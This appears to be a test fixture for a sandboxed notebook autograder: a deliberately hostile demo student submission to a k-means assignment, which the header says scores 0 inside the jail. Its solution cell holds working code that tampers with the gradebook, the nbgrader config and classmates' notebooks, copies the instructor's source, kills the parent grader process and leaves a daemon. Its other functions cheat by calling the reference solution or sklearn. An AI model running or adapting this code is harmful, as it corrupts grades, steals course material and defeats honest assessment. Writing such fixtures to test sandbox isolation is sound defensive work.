# Demo student: hostile code in the solution cell -- it looks for the course around
# the notebook, tries to copy the instructor's source and overwrite classmates'
# work, the gradebook and the course's nbgrader config, to kill the grader and to
# leave a daemon behind, and hands every step to the kit's reference. The jail
# leaves it nothing to reach: 0 points, and the class's grades are untouched.
# %% assign_solution
import os
import signal
import subprocess
import sys
from pathlib import Path

_here = Path.cwd().resolve()
_course = next((p for p in _here.parents if (p / "gradebook.db").exists()), None)
if _course is not None:
    for _victim in [_course / "gradebook.db", _course / "nbgrader_config.py",
                    *_course.glob("submitted/*/kmeans/kmeans.ipynb")]:
        try:
            with open(_victim, "a") as _f:
                _f.write("\n# owned\n")
        except OSError:
            pass
    try:
        (_here / "stolen.ipynb").write_bytes(
            (_course / "source" / "kmeans" / "kmeans.ipynb").read_bytes())
    except OSError:
        pass
try:
    os.kill(os.getppid(), signal.SIGKILL)   # the process that started this one: the grader?
except OSError:
    pass
try:
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", "demo-daemon"],
                     start_new_session=True, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
except OSError:
    pass


def assign(X, means):
    import reference

    return reference.assign(X, means)


# %% update_solution
def update(X, labels, means):
    from sklearn.cluster import KMeans

    model = KMeans(len(means), init=means, n_init=1).fit(X)
    return model.cluster_centers_


# %% converged_solution
def converged(old_labels, new_labels):
    import reference

    return reference.converged(old_labels, new_labels)
